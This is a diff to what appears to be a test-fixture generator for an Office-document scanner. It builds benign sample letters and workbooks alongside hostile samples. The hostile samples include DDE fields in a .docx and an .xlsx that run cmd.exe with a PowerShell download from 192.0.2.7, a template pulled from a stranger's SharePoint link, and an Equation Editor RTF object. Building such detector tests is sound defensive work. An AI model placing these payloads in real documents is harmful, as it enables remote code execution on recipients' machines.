@@ -13,6 +13,8 @@ REPORT = ("<html><head><title>Quartalsbericht</title></head><body><h1>Quartalsbe
 LIST = "Artikel;Menge;Preis\nSchmierfett;12;34,88\nDichtung;40;1,20\n".encode()
 RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 SHEET_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
+LINK_TYPE = ("<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"application/vnd.openxmlformats-"
+             "officedocument.spreadsheetml.externalLink+xml\"/>")
 WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
 
 # What a report does to itself, what a firm's list does with its share, what a thief's does.
@@ -119,7 +121,20 @@ def outside_book(package, target):
             f"{RELATIONS}\" r:id=\"rId1\"><sheetNames><sheetName val=\"Preise\"/></sheetNames></externalBook></externalLink>")
     return changed(package, {"xl/externalLinks/externalLink1.xml": link,
                              "xl/externalLinks/_rels/externalLink1.xml.rels": relations},
-                   {"xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdL\" "
+                   {"[Content_Types].xml": [("</Types>", LINK_TYPE + "</Types>")],
+                    "xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdL\" "
+                                                    f"Type=\"{RELATIONS}/externalLink\""
+                                                    " Target=\"externalLinks/externalLink1.xml\"/></Relationships>")]})
+
+
+def dde_linked(package, service, topic):
+    """A sheet that another program on the same machine keeps up to date."""
+    link = ("<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink "
+            f"ddeService=\"{service}\" ddeTopic=\"{topic}\"><ddeItems><ddeItem name=\"DE0000000000 Corp,[PX_LAST]\" "
+            "advise=\"1\"/></ddeItems></ddeLink></externalLink>")
+    return changed(package, {"xl/externalLinks/externalLink1.xml": link},
+                   {"[Content_Types].xml": [("</Types>", LINK_TYPE + "</Types>")],
+                    "xl/_rels/workbook.xml.rels": [("</Relationships>", f"<Relationship Id=\"rIdL\" "
                                                     f"Type=\"{RELATIONS}/externalLink\""
                                                     " Target=\"externalLinks/externalLink1.xml\"/></Relationships>")]})
 
@@ -173,6 +188,16 @@ def good(office):
                                                 "attachedTemplate", "file:///\\\\fs01\\vorlagen\\brief.dotx"),
         "template_at_home.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
                                                "attachedTemplate", "file:///C:\\Users\\muster\\Vorlagen\\Brief.dotm"),
+        "template_on_sharepoint.docx": with_settings(
+            letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>", "attachedTemplate",
+            "https://litware.sharepoint.com/sites/vorlagen/Freigegebene%20Dokumente/Brief.dotx"),
+        "template_on_intranet.docx": with_settings(letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>",
+                                                   "attachedTemplate", "http://intranet/vorlagen/Brief.dotx"),
+        "table_on_share.docx": in_text(letter(), field('LINK Excel.Sheet.12 "\\\\\\\\fs01\\\\umsatz\\\\2026.xlsx" '
+                                                       '"Tabelle1!Z1S1:Z9S4" \\a \\f 5 \\h')),
+        "object_on_share.docx": related(letter(), "oleObject", "file:///\\\\fs01\\umsatz\\2026.xlsx"),
+        "parts_on_share.docx": in_text(letter(), field('INCLUDEPICTURE "\\\\\\\\fs01\\\\logo\\\\logo.png" \\d')
+                                       + field('INCLUDETEXT "\\\\\\\\fs01\\\\texte\\\\agb.docx"')),
         "fields.docx": in_text(letter(), field("MERGEFIELD Anrede") + field("TOC \\o") + field("PAGE")
                                + field("DOCPROPERTY Titel")),
         "table_from_excel.docx": changed(in_text(letter(), "<w:p/>"), {"word/embeddings/Tabelle.xlsx": book()}),
@@ -190,6 +215,7 @@ def good(office):
                                     "url=\"https://www.litware.example/kurse.html\"/></connection>"),
         "book_on_share.xlsx": outside_book(book(), "file:///\\\\fs01\\preise\\2026.xlsx"),
         "book_on_sharepoint.xlsx": outside_book(book(), "https://litware.sharepoint.com/sites/vertrieb/preise.xlsx"),
+        "market_data.xlsx": dde_linked(book(), "BLP", "M"),
         "macro_formats.xlsm": with_macro(book(), FORMATS, "xl", SHEET_MAIN, "Modul1"),
         "macro_reads_share.xlsm": with_macro(book(), READS_SHARE, "xl", SHEET_MAIN, "ThisWorkbook"),
         "macro_button.docm": with_macro(letter(), BUTTON, "word", WORD_MAIN, "Modul1"),
@@ -204,6 +230,10 @@ def hostile():
                                                 "attachedTemplate", "https://templates.stranger.example/a.dotm"),
         "dde.docx": in_text(letter(), field(
             "DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k powershell -c iwr http://192.0.2.7/a\"")),
+        "template_shared_by_link.docx": with_settings(
+            letter(), f"<w:attachedTemplate xmlns:r=\"{RELATIONS}\" r:id=\"rIdX\"/>", "attachedTemplate",
+            "https://stranger.sharepoint.com/:w:/g/EbQx1f?download=1"),
+        "dde.xlsx": dde_linked(book(), "cmd", "/c powershell -c iwr http://192.0.2.7/a"),
         "equation.rtf": b"{\\rtf1{\\object\\objemb{\\*\\objclass Equation.3}{\\*\\objdata 0105000002000000"
                         b"0b0000004571756174696f6e2e330000000000000000000400000041414141}}}",
         "macro_zipped.zip": zipped({"invoice.docm": with_macro(letter(), SHELLS, "word", WORD_MAIN, "ThisDocument")}),
